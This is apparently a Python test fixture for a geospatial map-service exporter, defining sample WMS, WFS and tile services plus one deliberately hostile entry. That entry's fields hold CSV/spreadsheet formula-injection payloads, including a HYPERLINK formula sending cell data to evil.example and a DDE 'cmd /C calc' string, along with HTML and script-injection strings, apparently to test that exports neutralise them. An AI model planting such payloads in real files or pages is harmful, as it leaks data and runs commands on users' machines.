"""Services to export, some of them hostile."""

from __future__ import annotations

from geohound.model.bbox import BBox
from geohound.model.service import Access, Extent, Layer, Provider, Service


def _service(
    kind: str, endpoint: str, title: str, box: BBox | None = None, **more: object
) -> Service:
    return Service(
        kind, endpoint, title=title, extent=Extent(box) if box else None, **more
    )  # type: ignore[arg-type]


RIVERS = _service(
    "wms",
    "https://maps.water.example/wms",
    "Rivers & lakes",
    BBox(19.1, 59.3, 31.6, 70.1),
    version="1.3.0",
    keywords=("rivers", "lakes"),
    provider=Provider("Water Institute"),
    access=Access(licence="CC-BY-4.0"),
    layers=(
        Layer(
            "hy:rivers",
            "Rivers",
            crs=("EPSG:4326",),
            extent=Extent(BBox(20, 60, 31, 70)),
        ),
        Layer("hy:lakes"),
    ),
)
TWIN = _service(
    "wms",
    "https://mirror.example/wms",
    "Rivers & lakes",
    BBox(5, 45, 10, 50),
    layers=(Layer("a"),),
)
FIJI = _service(
    "wfs",
    "https://fiji.example/wfs",
    "Reefs",
    BBox(176.5, -21, -178, -12),
    version="2.0.0",
    layers=(Layer("reef"),),
)
TILES = _service(
    "xyz",
    "https://tiles.example/{z}/{x}/{y}.png",
    "Tiles",
    layers=(Layer("", links=("https://tiles.example/{z}/{x}/{y}.png",)),),
)
FORMULA = _service(
    "wms",
    "https://bad.example/wms",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    abstract="+1+cmd|' /C calc'!A0\r\n@SUM(1)",
    provider=Provider("-2+3"),
    keywords=("\t=1",),
    layers=(Layer('"><evil/>', "<script>"),),
)
SERVICES = (RIVERS, TWIN, FIJI, TILES, FORMULA)
